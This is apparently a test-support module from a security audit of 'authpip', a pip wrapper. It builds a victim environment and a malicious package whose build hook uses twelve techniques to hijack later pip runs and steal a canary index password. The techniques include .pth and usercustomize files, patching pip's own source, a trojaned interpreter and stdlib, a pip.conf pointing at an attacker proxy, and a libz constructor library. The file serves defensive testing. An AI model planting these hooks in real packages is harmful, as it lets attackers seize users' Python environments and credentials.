"""Twelve ways for the build code of a package to change what the next nested pip of the same run loads (audit 1)."""

from __future__ import annotations

import json
import os
import subprocess
from collections.abc import Mapping
from pathlib import Path
from typing import Any, NamedTuple

from support.leaks.canary import Canary, new_canary
from support.machine.other_user import NOBODY, give_away
from support.programs import pip_venvs
from support.programs.authpip_cli import rule
from support.programs.pip_venvs import PipVenv
from support.samples import packages
from support.servers.index_server import IndexServer


class Way(NamedTuple):
    """change: what the hook does, in Python. environ: what the user has set. is_run: the thief's code must have run."""

    change: str
    environ: Mapping[str, str] = {}
    is_run: bool = True


WAYS = {
    "a .pth file": Way("write(SITE + '/zz.pth', 'import sys; exec(%r, {})\\n' % THIEF)"),
    "usercustomize": Way("write(HOME + '/.local/lib/python%d.%d/site-packages/usercustomize.py' % VERSION, THIEF)"),
    "pip's own main": Way("append(SITE + '/pip/_internal/cli/main.py', THIEF)"),
    "the interpreter": Way(
        "write(VENV + '/bin/python', '#!/usr/bin/python3\\n' + THIEF + 'os.execv(%r, [%r, *sys.argv[1:]])\\n'"
        " % (os.path.realpath(sys.executable), VENV + '/bin/python')); os.chmod(VENV + '/bin/python', 0o755)"
    ),
    "home in pyvenv.cfg": Way("write(VENV + '/pyvenv.cfg', 'home = %s/bin\\n' % other_home())"),
    "authpip's own code": Way("append(SITE + '/authpip/inside_pip/frames.py', THIEF)"),
    "PYTHONPATH": Way("write(MINE + '/sitecustomize.py', THIEF)", {"PYTHONPATH": "{mine}"}),
    "pip.conf": Way("write(VENV + '/pip.conf', '[global]\\nproxy = {evil}\\nextra-index-url = {evil}/simple/\\n')"),
    "a keyring module": Way(
        "write(SITE + '/keyring.py', THIEF + 'get_credential = get_password = lambda *_: None\\n')",
        {"PIP_KEYRING_PROVIDER": "import"},
    ),
    "truststore": Way("append(SITE + '/pip/_vendor/truststore/__init__.py', THIEF)"),
    "a shared library": Way(
        "os.rename(MINE + '/libz', MINE + '/libz.so.1'); write(MINE + '/py/sitecustomize.py', THIEF)",
        {"LD_LIBRARY_PATH": "{mine}"},
    ),
    "pip's runner": Way("before(SITE + '/pip/__pip-runner__.py', THIEF)"),
}
WAYS["pip.conf"] = WAYS["pip.conf"]._replace(is_run=False)
WAYS["a keyring module"] = WAYS["a keyring module"]._replace(is_run=False)

BACKEND = """
import os, shutil, sys, time
from backend_settings import CHANGE, HOME, MINE, SITE, THIEF, VENV
from spy_backend import *

VERSION = sys.version_info[:2]


def write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    if os.path.lexists(path):
        os.unlink(path)
    with open(path, "w") as file:
        file.write(text)


def read(path):
    with open(path) as file:
        return file.read()


def append(path, text):
    write(path, read(path) + "\\n" + text)


def before(path, text):
    write(path, text + "\\n" + read(path))


def wait(ended, told):
    open(ended, "w").close()
    for _ in range(600):
        if os.path.exists(told):
            return
        time.sleep(0.05)


def other_home():
    home, library = MINE + "/python", os.path.dirname(os.__file__)
    mine = home + "/lib/" + os.path.basename(library)
    os.makedirs(mine)
    os.makedirs(home + "/bin")
    os.symlink(os.path.realpath(sys.executable), home + "/bin/python3")
    for name in os.listdir(library):
        if name != "json":
            os.symlink(os.path.join(library, name), os.path.join(mine, name))
    shutil.copytree(library + "/json", mine + "/json", ignore=shutil.ignore_patterns("__pycache__"))
    append(mine + "/json/__init__.py", THIEF)
    return home


def get_requires_for_build_wheel(config_settings=None):
    exec(CHANGE, globals())
    return LATE


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    ended, told = MINE + "/ended", MINE + "/told"
    if os.path.exists(MINE + "/wait"):
        wait(ended, told)
    return build(wheel_directory)
"""
LIBRARY = """
#include <stdlib.h>
__attribute__((constructor)) static void enter(void) { setenv("PYTHONPATH", "%s/py", 1); }
"""


class Victim(NamedTuple):
    """An environment of an ordinary user, who can change all of it, and a private index with the attacker's package."""

    base: Path
    venv: PipVenv
    server: IndexServer
    canary: Canary
    environ: dict[str, str]

    @property
    def mine(self) -> Path:
        """A directory that is all the attacker's."""
        return self.base / "mine"

    @property
    def report(self) -> Path:
        """Where the attacker's code writes what it found, a line of JSON each time."""
        return self.mine / "report.jsonl"

    def reports(self) -> list[dict[str, Any]]:
        """What is written there."""
        return [json.loads(line) for line in self.report.read_text().splitlines()] if self.report.exists() else []

    def install(
        self, change: str, code: str, *, environ: Mapping[str, str] = {}, module: str = "authpip"
    ) -> subprocess.CompletedProcess[str]:
        """Install a package whose first hook makes a change; as the ordinary user.

        change: Python with the names of BACKEND. code: what it calls THIEF.
        """
        source = self._sdist(change, code)
        self.server.indexes[0].files[source.name] = source
        uid = NOBODY if os.geteuid() == 0 else os.geteuid()
        give_away(self.base, uid)
        user = {"user": uid, "group": uid, "extra_groups": []} if uid != os.geteuid() else {}
        environ = self.environ | {name: value.format(mine=self.mine) for name, value in environ.items()}
        return self.venv.run("install", "evil-thing", env=environ, module=module, cwd=self.base, **user)

    def _sdist(self, change: str, code: str) -> Path:
        files = packages.spy_files("evil-thing", self.mine / "spy.jsonl", late=["late-dep"])
        settings = {
            "CHANGE": change,
            "HOME": str(self.base / "home"),
            "MINE": str(self.mine),
            "SITE": str(self.venv.site_packages),
            "THIEF": code,
            "VENV": str(self.venv.directory),
        }
        files["backend_settings.py"] = "".join(f"{key} = {value!r}\n" for key, value in settings.items())
        files["evil_backend.py"] = BACKEND
        files["pyproject.toml"] = files["pyproject.toml"].replace("spy_backend", "evil_backend")
        return packages.sdist(self.base / "files", "evil-thing", files=files)


def victim(environment: Mapping[str, str], server: IndexServer, pip: str = "26.3") -> Victim:
    """A new one, with the wheel under test, and an index at /team/simple/ that has nothing but `late-dep` yet."""
    base, canary = Path(environment["HOME"]).parent, new_canary()
    server.add("/team/simple", [packages.wheel(base / "files", "late-dep")], username="alice", password=canary.secret)
    (base / "mine/py").mkdir(parents=True)
    certificates = base / "ca.pem"  # where an ordinary user may read it
    certificates.write_bytes(server.authority.file.read_bytes() if server.authority else b"")
    venv = pip_venvs.make(base / "venv", pip_venvs.system_python(), pip, authpip=True)
    config = venv.directory / "pyvenv.cfg"
    text = config.read_text().replace("include-system-site-packages = false", "include-system-site-packages = true")
    config.unlink()  # it is a hard link to the template's
    config.write_text(text)  # with this, the user's own site-packages count
    url = server.url("/team/simple/")
    environ = {**environment, "PIP_CERT": str(certificates), "PIP_INDEX_URL": url, **rule(url, "alice", canary.secret)}
    del environ["PYTHONNOUSERSITE"]
    return Victim(base, venv, server, canary, environ)


def compile_library(directory: Path) -> None:
    """A libz that puts a directory on PYTHONPATH as soon as it is loaded, and is the real one for the rest."""
    source = directory / "enter.c"
    source.write_text(LIBRARY % directory)
    real = next(Path("/").glob("usr/lib/*/libz.so.1"), Path("/usr/lib/libz.so.1"))
    linked = ["-Wl,--no-as-needed", str(real), "-Wl,-soname,libz.so.1"]
    subprocess.run(["cc", "-shared", "-fPIC", "-o", str(directory / "libz"), str(source), *linked], check=True)
